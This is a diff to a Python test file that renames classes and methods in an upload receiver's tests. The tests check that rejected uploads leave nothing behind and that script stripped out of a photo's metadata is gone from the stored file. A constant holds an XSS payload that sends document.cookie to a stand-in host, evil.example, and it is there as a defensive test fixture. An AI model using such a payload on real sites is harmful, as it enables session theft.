@@ -12,10 +12,10 @@ from core.uploaded_file import FileState
 from store.engine import Store
 from store.evidence.blobs import Blobs
 from store.evidence.receiving import Receiver
-from store.evidence.refusals import FileRefusedError
+from store.evidence.refusals import UploadRefused
 from tests.builders import MONDAY_9AM, a_policy
 from tests.store.evidence import sample_files as samples
-from tests.store.evidence.sample_bytes import kept
+from tests.store.evidence.sample_bytes import stored_hashes
 from tests.store.evidence.uploads import FORM, stored
 
 SCRIPT = b"<script>fetch('https://evil.example/' + document.cookie)</script>"
@@ -75,10 +75,12 @@ def blobs() -> Blobs:
 async def test_every_trick_has_its_answer_and_leaves_nothing(
     store: Store, blobs: Blobs, content: bytes, name: str, answer: str
 ) -> None:
-    with pytest.raises(FileRefusedError) as refused:
-        await Receiver(store, blobs).take_whole(content, place=FORM, name=name, kind="other", now=MONDAY_9AM)
+    with pytest.raises(UploadRefused) as refused:
+        await Receiver(store, blobs).receive_whole(
+            content, target=FORM, name=name, kind="other", now=MONDAY_9AM
+        )
     assert answer in str(refused.value)
-    assert await kept(blobs) == []
+    assert await stored_hashes(blobs) == []
     assert await store.read(lambda tx: tx.files.list_for_draft("form-1")) == []
 
 
@@ -87,8 +89,8 @@ async def test_script_in_what_a_camera_wrote_down_is_gone(store: Store, blobs: B
     at = photo.index(samples.SECRET)
     photo = photo[:at] + SCRIPT[: len(samples.SECRET)] + photo[at + len(samples.SECRET) :]
     assert b"<script>" in photo
-    file = await Receiver(store, blobs).take_whole(
-        photo, place=FORM, name="photo.jpg", kind="other", now=MONDAY_9AM
+    file = await Receiver(store, blobs).receive_whole(
+        photo, target=FORM, name="photo.jpg", kind="other", now=MONDAY_9AM
     )
     assert file.state is FileState.READY
     assert b"<script>" not in await stored(blobs, file)
